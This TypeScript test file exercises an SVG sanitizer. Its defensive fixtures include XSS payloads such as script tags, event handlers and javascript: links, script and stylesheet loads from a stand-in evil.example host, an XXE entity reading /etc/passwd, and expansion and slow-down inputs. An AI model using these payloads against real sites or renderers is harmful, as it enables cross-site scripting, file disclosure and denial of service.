import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanSvg } from './clean-svg.ts';
import { readSvg, type SvgNode } from './read-svg.ts';

const drawing = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" ${attributes}>${inner}<path d="M0 0h9"/></svg>`;
const clean = (inner: string, attributes = '') => cleanSvg(drawing(inner, attributes)).svg;
const refusal = (source: string): string => {
  try {
    return `taken: ${cleanSvg(source).svg}`;
  } catch (error) {
    return (error as Error).message;
  }
};

/** None of this may appear in a cleaned file, whatever it was made from. */
const ACTIVE =
  /script|\son\w+\s*=|javascript|data:|https?:(?!\/\/www\.w3\.org\/2000\/svg")|<!|<\?|foreignObject|<style|\sstyle=|animate|iframe|@import|url\((?!#)|href="(?!#)/i;

const ATTACKS: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script of another prefix': '<svg:script>alert(1)</svg:script>',
  'a script in CDATA': '<script><![CDATA[alert(1)]]></script>',
  'a script from elsewhere': '<script href="https://evil.example/x.js"/>',
  'an event': '<rect width="1" height="1" onload="alert(1)" onclick=\'alert(2)\'/>',
  'an event in capitals': '<rect width="1" height="1" ONLOAD="alert(1)"/>',
  'a link': '<a href="javascript:alert(1)"><rect width="1" height="1"/></a>',
  'a link in characters': '<a xlink:href="&#106;avascript:alert(1)"><rect width="1" height="1"/></a>',
  HTML: '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
  'a frame': '<iframe src="https://evil.example/"/>',
  'an animation of an address':
    '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="1" height="1"/></a>',
  'a set event': '<rect width="1" height="1"><set attributeName="onmouseover" to="alert(1)"/></rect>',
  'a shape from elsewhere': '<use href="https://evil.example/x.svg#a"/>',
  'a shape of data': '<use xlink:href="data:image/svg+xml,&lt;svg/&gt;#a"/>',
  'a fill from elsewhere': '<rect width="1" height="1" fill="url(https://evil.example/x.svg#a)"/>',
  'a style from elsewhere': '<rect width="1" height="1" style="fill:url(//evil.example/x)"/>',
  'a style with an escape': '<rect width="1" height="1" style="fill:\\75rl(//evil.example/x)"/>',
  'a style that is none of a drawing': '<rect width="1" height="1" style="position:fixed;background:url(x)"/>',
  'a filter of a picture': '<filter id="f"><feImage href="https://evil.example/x"/></filter>',
  'a comment that ends early': '<!--><script>alert(1)</script>-->',
  'a handler': '<handler type="application/ecmascript">alert(1)</handler>',
  'an instruction': '<?xml-stylesheet href="https://evil.example/x.css"?>',
  'a name that breaks out': '<path id="a&quot; onload=&quot;alert(1)" d="M0 0h1"/>',
  metadata: '<metadata><rdf:RDF><script>alert(1)</script></rdf:RDF></metadata>',
};

/** At most half a megabyte each. */
const SLOW: Record<string, string> = {
  'one word without an end': drawing(`<path d="${'a'.repeat(100_000)}"/>`),
  'a style sheet without a rule': drawing(`<style>${'a'.repeat(100_000)}</style>`),
  'comments that never end': drawing(`<style>${'/*'.repeat(200_000)}</style>`),
  'many rules for many parts': drawing(`<style>${'g{fill:red}'.repeat(20_000)}</style>${'<g/>'.repeat(9000)}`),
  'many rules for nothing': drawing(`<style>${'a{}'.repeat(50_000)}</style>${'<g/>'.repeat(9000)}`),
};

const tookMs = (source: string): number => {
  const began = performance.now();
  refusal(source);
  return performance.now() - began;
};

describe('an SVG drawing', () => {
  it.each(Object.entries(ATTACKS))('loses %s', (_, inner) => {
    const svg = clean(inner);
    expect(svg).not.toMatch(ACTIVE);
    expect(svg).not.toMatch(/evil|alert/);
    expect(svg).toContain('<path d="M0 0h9"/>');
  });

  it.each([
    ['entities', '<!DOCTYPE svg [<!ENTITY a "b">]><svg viewBox="0 0 1 1"><path d="M0 0"/></svg>', /entities/],
    [
      'a local file',
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg viewBox="0 0 1 1"><text>&x;</text></svg>',
      /entities/,
    ],
    ['an undeclared entity', drawing('<g id="&x;"/>'), /damaged/],
    ['text', drawing('<text>Surya</text>'), /paths/],
    ['a bitmap', drawing('<image href="data:image/png;base64,AA"/>'), /PNG/],
    ['an imported sheet', drawing('<style>@import url(https://evil.example/x.css);</style>'), /style sheet/],
    ['a sheet with complex selectors', drawing('<style>g > path{fill:red}</style>'), /style sheet/],
    ['a shape that contains itself', drawing('<g id="a"><use href="#a"/></g>'), /too many times/],
    [
      'two shapes that draw each other',
      drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
      /too many times/,
    ],
    ['an open tag', '<svg viewBox="0 0 1 1"><g></svg>', /damaged/],
    ['another document', '<html><svg/></html>', /no SVG/],
    ['no size', '<svg><path d="M0 0h1"/></svg>', /how large/],
    ['an endless size', '<svg viewBox="0 0 1e999 1"><path d="M0 0h1"/></svg>', /how large/],
    ['nothing drawn', '<svg viewBox="0 0 1 1"><defs/></svg>', /nothing/],
    ['a repeated attribute', '<svg viewBox="0 0 1 1" viewBox="0 0 2 2"><path d="M0 0h1"/></svg>', /damaged/],
    ['very deep nesting', drawing('<g>'.repeat(500) + '</g>'.repeat(500)), /too many/],
  ])('is refused for %s', (_, source, why) => {
    expect(refusal(source)).toMatch(why);
  });

  it('is refused when a few elements expand to millions', () => {
    const levels = Array.from(
      { length: 9 },
      (_, level) => `<g id="l${level}">${`<use href="#l${level + 1}"/>`.repeat(10)}</g>`,
    );
    expect(refusal(drawing(`${levels.join('')}<rect id="l9" width="1" height="1"/>`))).toMatch(/too many times/);
  });

  it.each(Object.entries(SLOW))('of %s costs at most a few times an honest one of its size', (_, source) => {
    const paths = '<path d="M0 0h9" fill="#f60" stroke="none"/>'.repeat(9000);
    const honest = tookMs(drawing(`${paths}<path d="${'M1.5 2.5L3 4'.repeat(9000)}"/>`));
    expect(tookMs(source)).toBeLessThan(20 * honest + 100);
  });

  it('keeps the last value of each style, the weakest selector first', () => {
    const sheet =
      '/* #f } */ #i{fill:#111}.b{fill:#222;stroke:#999}.a,.b{fill:#333;fill:url(//evil.example)}path{fill:#444;opacity:.5}.a{stroke:#888}';
    const [, marked, classed, plain] = clean(
      `<style>${sheet}</style><path class="b" id="i" d="M1 1"/><path class="b a" d="M2 2"/><path d="M3 3"/>`,
    ).split('<path ');
    expect([marked, classed, plain]).toEqual([
      expect.stringContaining('fill="#111" opacity=".5" stroke="#999"'),
      expect.stringContaining('fill="#333" opacity=".5" stroke="#888"'),
      expect.stringMatching(/fill="#444" opacity=".5"\/>$/),
    ]);
  });

  it('keeps what drawing programs write', () => {
    const svg = clean(
      '<style>.a{fill:#f60;stroke:none}#b{opacity:.5}</style><defs><linearGradient id="g1"><stop offset="0" style="stop-color:#fff;stop-opacity:1"/></linearGradient><linearGradient id="g" xlink:href="#g1"/><clipPath id="c"><rect width="9" height="9"/></clipPath></defs><g inkscape:label="x" clip-path="url(#c)"><path class="a" id="b" d="M0 0h1" transform="matrix(1 0 0 1 2 3)"/><circle r="2" style="fill:url(#g)"/></g>',
      'fill="none"',
    );
    for (const part of [
      'fill="#f60"',
      'opacity=".5"',
      'stop-color="#fff"',
      'href="#g1"',
      'clip-path="url(#c)"',
      'fill="url(#g)"',
      'matrix(1 0 0 1 2 3)',
      'fill="none"',
    ])
      expect(svg).toContain(part);
  });

  it('is never active, whatever it contains, and cleaning it again changes nothing', () => {
    const names = fc.constantFrom(
      'svg',
      'g',
      'path',
      'rect',
      'a',
      'script',
      'style',
      'use',
      'foreignObject',
      'animate',
      'defs',
      'linearGradient',
      'x:y',
      'title',
    );
    const attributes = fc.constantFrom(
      'id',
      'href',
      'xlink:href',
      'style',
      'fill',
      'onload',
      'd',
      'clip-path',
      'class',
      'src',
      'transform',
      'viewBox',
    );
    const values = fc.oneof(
      fc.constantFrom(
        '#a',
        'a',
        'url(#a)',
        'url(https://evil.example)',
        'javascript:alert(1)',
        '&#x6a;avascript:x',
        'fill:red',
        'data:text/html,x',
        '&lt;script&gt;',
        'url(&quot;//e&quot;)',
      ),
      fc.string(),
    );
    const part: fc.Arbitrary<string> = fc.letrec((tie) => ({
      node: fc.oneof(
        { depthSize: 'small' },
        fc.constantFrom('text', '<!-- c -->', '<![CDATA[<script>]]>', '<?p i?>', '&amp;'),
        fc
          .tuple(
            names,
            fc.array(fc.tuple(attributes, values), { maxLength: 3 }),
            fc.array(tie('node') as fc.Arbitrary<string>, { maxLength: 3 }),
          )
          .map(
            ([name, pairs, inner]) =>
              `<${name}${pairs.map(([key, value]) => ` ${key}="${value}"`).join('')}>${inner.join('')}</${name}>`,
          ),
      ),
    })).node as fc.Arbitrary<string>;
    let taken = 0;
    fc.assert(
      fc.property(part, (inner) => {
        let svg: string;
        try {
          svg = clean(inner);
        } catch (error) {
          expect((error as { code?: string }).code).toBe('invalid');
          return;
        }
        taken += 1;
        const every = (node: SvgNode): SvgNode[] => [node, ...node.children.flatMap(every)];
        for (const { name, attributes: given, text } of every(readSvg(svg))) {
          expect(name).toMatch(/^(svg|g|path|rect|use|defs|linearGradient)$/);
          expect(text.trim()).toBe('');
          for (const [key, value] of given) {
            expect(key).not.toMatch(/^on|style|src|class|:/);
            if (key === 'href') expect(value).toMatch(/^#/);
            expect(value.replace(/^http:\/\/www\.w3\.org\/2000\/svg$/, '')).not.toMatch(/:|url\((?!#)|[<>"'\\]/);
          }
        }
        expect(cleanSvg(svg).svg).toBe(svg);
      }),
      { numRuns: 2000 },
    );
    expect(taken).toBeGreaterThan(100);
  });
});
